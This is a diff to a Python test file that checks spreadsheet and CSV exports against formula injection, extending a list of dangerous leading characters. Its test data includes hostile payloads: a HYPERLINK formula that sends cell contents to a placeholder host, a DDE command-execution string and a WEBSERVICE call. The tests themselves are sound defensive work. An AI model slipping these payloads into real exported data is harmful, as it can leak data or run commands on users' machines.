@@ -10,13 +10,22 @@ from typing import Any
 import pytest
 from openpyxl import load_workbook
 
+from checker.report.formats.escape import shown_text
 from checker.report.sample import SampleRow
 from checker.report.samplefiles import SampleInfo, write_sample
 from tests.conftest import EXAMPLES, caselint
 
 EXPORT = EXAMPLES / "exports" / "west-mercia-2013-01.json"
-# What a spreadsheet would run, as OWASP lists it for CSV injection: =, +, -, @, tab and carriage return.
-DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+# What a spreadsheet would run, as OWASP lists it for CSV injection: =, +, -, @, tab and carriage return;
+# their full-width forms; and the quote, which the CSV then doubles so that it reads back exactly.
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'")
+
+
+def dangerous(text: str) -> bool:
+    """What a spreadsheet could run: a formula start, or any space or control character before one."""
+    return text.startswith(DANGEROUS) or (text[:1].isspace() or not text[:1].isprintable())
+
+
 IDS = ('=HYPERLINK("http://x/"&A1,"c")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")
 DISTRICTS = ("=IMPORTXML(CANARY)", "@district", "+team", "-1", "#N/A", "North")
 SEED = '=WEBSERVICE("http://x/")'
@@ -39,9 +48,13 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 def _written(folder: Path) -> list[list[Any]]:
-    """The rows as caselint drew them, from the JSON sample (which no spreadsheet runs)."""
+    """The rows as caselint drew them, from the JSON sample (which no spreadsheet runs), as a
+    workbook or CSV shows them (``shown_text``: a tab reads ``\\x09``)."""
     items = json.loads((folder / "s.json").read_text(encoding="utf-8"))["items"]
-    return [[i["record_id"], i["rule"], i["outcome"], i["pointer"], i["district"] or "(none)"] for i in items]
+    fields = ("record_id", "rule", "outcome", "pointer")
+    return [
+        [*(shown_text(i[field]) for field in fields), shown_text(i["district"] or "(none)")] for i in items
+    ]
 
 
 def _no_formula_anywhere(path: Path) -> None:
@@ -61,12 +74,12 @@ def test_the_workbook_stores_every_record_value_as_text_shown_as_written(hostile
     shown = [[*row[:3], row[3] or "", row[4]] for row in sheet.iter_rows(min_row=2, values_only=True)]
     assert shown == _written(hostile)
     ids = {row[0] for row in shown}
-    # Every kind of payload was drawn, so the check above covers each (ids arrive stripped).
-    assert all(any(i.startswith(start) for i in ids) for start in "=+-@")
+    # Every kind of payload was drawn, so the check above covers each.
+    assert all(any(i.startswith(start) for i in ids) for start in ("=", "+", "-", "@", "\\x09", "\\x0d"))
     assert {row[4] for row in shown} >= {"=IMPORTXML(CANARY)", "@district", "+team", "-1", "#N/A"}
     cells = [cell for line in sheet.iter_rows(min_row=2, max_col=5) for cell in line]
     # Excel's own mark for typed text: editing such a cell keeps it text; other cells go unmarked.
-    assert all(cell.quotePrefix == str(cell.value or "").startswith(DANGEROUS) for cell in cells)
+    assert all(cell.quotePrefix == dangerous(str(cell.value or "")) for cell in cells)
     about = {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True) if row[0]}
     assert about["Seed"] == SEED and about["Items per rule and outcome"] == 6
 
@@ -77,16 +90,16 @@ def test_the_csv_quotes_every_value_a_spreadsheet_would_run_and_nothing_else(hos
     assert lines[0] == ["record_id", "rule", "outcome", "pointer", "district", "verdict", "note"]
     written = _written(hostile)
     assert len(lines) == len(written) + 1
-    dangerous = 0
+    quoted = 0
     for line, row in zip(lines[1:], written, strict=True):
         for in_csv, value in zip(line[:5], row, strict=True):
-            if value.startswith(DANGEROUS):
-                dangerous += 1
+            if dangerous(value):
+                quoted += 1
                 assert in_csv == "'" + value
             else:
                 assert in_csv == value
-        assert not any(cell.startswith(DANGEROUS) for cell in line), line
-    assert dangerous > len(written)  # most ids and districts
+        assert not any(dangerous(cell) and not cell.startswith("'") for cell in line), line
+    assert quoted > len(written)  # most ids and districts
 
 
 @pytest.mark.parametrize("name", ["s.xlsx", "s.csv"])
@@ -97,7 +110,9 @@ def test_a_quoted_sample_still_reads_back(hostile: Path, name: str) -> None:
     assert sum(entry["sampled"] for entry in overall.values()) == len(_written(hostile))
 
 
-def test_tabs_and_carriage_returns_are_quoted_too_and_ordinary_values_are_not(tmp_path: Path) -> None:
+def test_tabs_and_carriage_returns_are_shown_escaped_and_ordinary_values_are_not_quoted(
+    tmp_path: Path,
+) -> None:
     rows = [
         SampleRow("\t=1+1", "AA001", "failed", "", "\r=2+2"),
         SampleRow("R-1", "AA001", "passed", "/custody_episodes/0", None),
@@ -111,14 +126,14 @@ def test_tabs_and_carriage_returns_are_quoted_too_and_ordinary_values_are_not(tm
     write_sample(tmp_path / "s.xlsx", rows, info)
     with (tmp_path / "s.csv").open(encoding="utf-8-sig", newline="") as stream:
         lines = list(csv.reader(stream))
-    assert lines[1][:5] == ["'\t=1+1", "AA001", "failed", "", "'\r=2+2"]
+    # Shown as every report shows them: a spreadsheet reads the escape as text, not a formula.
+    assert lines[1][:5] == ["\\x09=1+1", "AA001", "failed", "", "\\x0d=2+2"]
     assert lines[2][:5] == ["R-1", "AA001", "passed", "/custody_episodes/0", "(none)"]
     assert lines[3][:5] == ["'-", "AA001", "pending", "", "North"]
     _no_formula_anywhere(tmp_path / "s.xlsx")
     workbook = load_workbook(tmp_path / "s.xlsx")
     shown = list(workbook["Sample"].iter_rows(min_row=2, max_col=5, values_only=True))
-    # XML reads a carriage return back as a line feed: still text, still not a formula.
-    assert shown[0] == ("\t=1+1", "AA001", "failed", None, "\n=2+2")
+    assert shown[0] == ("\\x09=1+1", "AA001", "failed", None, "\\x0d=2+2")
     assert shown[1] == ("R-1", "AA001", "passed", "/custody_episodes/0", "(none)")
     about = {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True) if row[0]}
     assert about["Input"] == "=x.json" and about["AA001"] == "+title"
